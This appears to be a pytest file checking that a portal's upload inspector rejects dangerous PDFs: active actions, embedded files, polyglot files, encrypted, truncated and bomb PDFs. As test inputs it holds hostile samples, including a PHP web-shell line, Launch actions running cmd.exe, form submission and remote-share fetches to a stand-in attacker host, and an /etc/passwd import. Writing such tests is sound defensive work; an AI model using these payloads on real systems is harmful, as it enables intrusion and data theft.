"""A PDF that runs, launches, sends, opens or embeds something is rejected; one with only text and links is accepted."""

import io
import zipfile

import pytest
from pypdf.generic import ArrayObject, NameObject, NullObject, NumberObject

from portal.adapters.inspection.inspection import Inspected, inspect
from portal.platform.errors import FileKind, UploadReason, UploadRefused
from tests.parts import files, pdfs
from tests.parts.pdfs import (
    action,
    annotation,
    changed,
    on_click,
    opens_with,
    shows_page_with,
    with_file,
    with_file_note,
)

WEB = action("URI", URI="https://attacker.example/")
SCRIPT = action("JavaScript", JS="app.alert(1)")


def inspected(content: bytes) -> Inspected:
    return inspect(io.BytesIO(content), max_bytes=50_000_000)


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspected(content)
    return raised.value.reason


@pytest.mark.parametrize("pages", [1, 3, 40])
@pytest.mark.parametrize("compressed", [True, False])
def test_an_ordinary_pdf_is_accepted_and_its_pages_are_counted(pages: int, compressed: bool) -> None:
    found = inspected(pdfs.typeset(pages, compressed=compressed))
    assert (found.extension, found.pages) == ("pdf", pages)


@pytest.mark.parametrize(
    "change",
    [
        None,
        on_click(WEB),
        opens_with(action("GoTo", D=ArrayObject([NullObject(), NameObject("/Fit")]))),
        opens_with(action("Named", N=NameObject("/FirstPage"))),
        opens_with(ArrayObject([NumberObject(0), NameObject("/Fit")])),
        pdfs.with_scripts_by_name(),
    ],
    ids=["as it is", "a link", "its first page", "a named place", "a place", "an empty list of scripts"],
)
def test_internal_and_clickable_actions_are_accepted(change: pdfs.Change | None) -> None:
    assert inspected(changed(change)).extension == "pdf"


@pytest.mark.parametrize(
    "change",
    [
        opens_with(SCRIPT),
        opens_with(WEB),
        opens_with(action("Launch", F="cmd.exe")),
        opens_with(action("GoToR", F="\\\\attacker.example\\share\\x.pdf")),
        opens_with(action("SubmitForm", F="https://attacker.example/")),
        opens_with(action("ImportData", F="/etc/passwd")),
        opens_with(action("GoTo", D="first", Next=WEB)),
        opens_with(action("GoTo", D="first", Next=ArrayObject([action("Named", N=NameObject("/Find")), WEB]))),
        shows_page_with(WEB),
        shows_page_with(SCRIPT),
        on_click(SCRIPT),
        on_click(action("Launch", F="cmd.exe")),
        pdfs.with_scripts_by_name(SCRIPT),
        lambda writer: writer.add_annotation(0, annotation("RichMedia")),
        lambda writer: writer.add_annotation(0, annotation("Screen")),
        pdfs.form_that_is_xml,
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_automatic_actions_are_rejected(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE_CONTENT


@pytest.mark.parametrize("change", [with_file, with_file_note])
@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_with_an_embedded_file_is_rejected(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.EMBEDDED_FILES


def test_unreferenced_actions_are_found() -> None:
    hidden = b"\n99 0 obj\n<< /Type /Action /S\n/Launch /F (cmd.exe) >>\nendobj\n"
    content = files.real("cv.pdf")
    at = content.rindex(b"startxref")
    assert refused(content[:at] + hidden + content[at:]) == UploadReason.ACTIVE_CONTENT


def test_a_pdf_with_only_an_owner_password_is_accepted() -> None:
    assert inspected(changed(password=("", "owner"))).pages == 1
    assert refused(changed(opens_with(SCRIPT), password=("", "owner"))) == UploadReason.ACTIVE_CONTENT


def test_a_password_protected_pdf_is_rejected_as_such() -> None:
    with pytest.raises(UploadRefused) as raised:
        inspected(changed(password=("secret", "owner")))
    assert (raised.value.reason, raised.value.kind) == (UploadReason.ENCRYPTED, FileKind.PDF)


def archive_inside_of_a_pdf() -> bytes:
    """Return a file that is a PDF and an archive, whose comment is the PDF: both kinds are read from the end."""
    out = io.BytesIO()
    pdf = files.real("cv.pdf")
    at = pdf.rindex(b"startxref")
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", b"<x/>")
        archive.comment = b"\n" + pdf[at:]
    return pdf[:at] + out.getvalue()


PDF = files.real("cv.pdf")


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<html><script>alert(1)</script>\n" + PDF.partition(b"\n")[2],
        b"%PDF-1.7 <?php system($_GET[0]); ?>\n" + PDF.partition(b"\n")[2],
        PDF + files.zipped({"a": b"b"}),
        archive_inside_of_a_pdf(),
    ],
    ids=["a page of the web", "a program for a server", "an archive behind", "an archive within"],
)
def test_a_pdf_that_is_also_another_type_is_rejected(content: bytes) -> None:
    assert refused(content) == UploadReason.SUSPICIOUS


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"<!DOCTYPE html><script>alert(1)</script>" + PDF, FileKind.WEB_PAGE),
        (b"GIF89a" + PDF, FileKind.PICTURE),
        (b"\xff\xd8\xff\xe0\0\x10JFIF" + PDF, FileKind.PICTURE),
        (b"MZ" + PDF, FileKind.PROGRAM),
        (b"\x1f\x8b\x08\0" + PDF, FileKind.ARCHIVE),
    ],
)
def test_a_pdf_behind_the_header_of_another_type_counts_as_that_type(content: bytes, kind: FileKind) -> None:
    with pytest.raises(UploadRefused) as raised:
        inspected(content)
    assert (raised.value.reason, raised.value.kind) == (UploadReason.WRONG_TYPE, kind)


@pytest.mark.parametrize("kept", [0.2, 0.5, 0.8, 0.99])
def test_a_truncated_pdf_is_reported_as_damaged(kept: float) -> None:
    assert refused(PDF[: int(len(PDF) * kept)]) == UploadReason.DAMAGED


def test_a_pdf_with_a_decompression_bomb_is_rejected_in_time() -> None:
    assert refused(pdfs.bomb()) in (UploadReason.TOO_COMPLEX, UploadReason.DAMAGED)


def test_a_pdf_with_a_cyclic_page_tree_is_rejected() -> None:
    def circle(writer: object) -> None:
        pages = writer.root_object["/Pages"]  # type: ignore[attr-defined]
        pages[NameObject("/Kids")] = ArrayObject([writer.root_object.raw_get("/Pages")])  # type: ignore[attr-defined]

    assert refused(changed(circle)) == UploadReason.DAMAGED
